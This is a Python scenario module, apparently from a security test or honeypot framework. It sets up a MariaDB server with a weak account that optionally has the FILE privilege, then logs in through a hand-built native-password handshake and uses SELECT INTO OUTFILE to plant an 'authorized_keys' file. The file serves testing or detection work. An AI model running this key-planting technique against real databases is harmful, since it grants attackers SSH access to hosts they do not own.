"""MariaDB: a password by mysql_native_password, whose answer hangs on the server's nonce. Behind it a file is written that
would say whose keys open the host."""
import hashlib
import os
import shutil
import struct
import subprocess

from bait import installed
from client import Client, Unexpected, word

KIND = "crypto"
RULE = "ssh_key"
NEEDS = ["/usr/sbin/mariadbd"]
ALWAYS = False


def services(bait):
    data = os.path.join(bait.folder_of("mysql", "maria"), "data")
    subprocess.run(["/usr/bin/mariadb-install-db", "--no-defaults", "--user=mysql", f"--datadir={data}",
                    "--auth-root-authentication-method=normal"], check=True, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    right = "FILE, CREATE" if bait.vulnerable else "CREATE"
    init = bait.write("init.sql", f"CREATE OR REPLACE USER bee@'%' IDENTIFIED BY 'honey';\nGRANT {right} ON *.* TO bee@'%';\n")
    return [bait.entrance([installed(NEEDS[0]), "--no-defaults", f"--datadir={data}", f"--port={bait.port()}",
                           f"--bind-address={bait.host}", f"--socket={bait.file('maria/sock')}", f"--init-file={init}",
                           "--innodb-use-native-aio=0", "--skip-name-resolve"], user="mysql")]


class Maria(Client):
    def packet(self):
        head = self.exactly(4)
        return self.exactly(head[0] | head[1] << 8 | head[2] << 16)

    def send(self, sequence, payload):
        self.say(struct.pack("<I", len(payload))[:3] + bytes([sequence]) + payload)


def visit(address, random):
    client = Maria(address)
    hello = client.packet()
    at = hello.index(b"\0", 1) + 5
    nonce = hello[at:at + 8] + hello[at + 27:at + 39]
    one = hashlib.sha1(b"honey").digest()
    mask = hashlib.sha1(nonce + hashlib.sha1(one).digest()).digest()
    proof = bytes(a ^ b for a, b in zip(one, mask))
    client.send(1, struct.pack("<IIB23x", 0x000FA285 & ~0x8, 1 << 24, 33) + b"bee\0" + bytes([len(proof)]) + proof +
                b"mysql_native_password\0")
    if (answer := client.packet())[0]:
        raise Unexpected(repr(answer))
    folder = word(random).encode() + b"_%d" % random.randrange(10**9)  # a database is a folder
    client.send(0, b"\3CREATE DATABASE " + folder)
    client.packet()
    client.send(0, b"\3SELECT 'ssh-ed25519 none' INTO OUTFILE '" + folder + b"/authorized_keys'")
    client.packet()
    client.close()
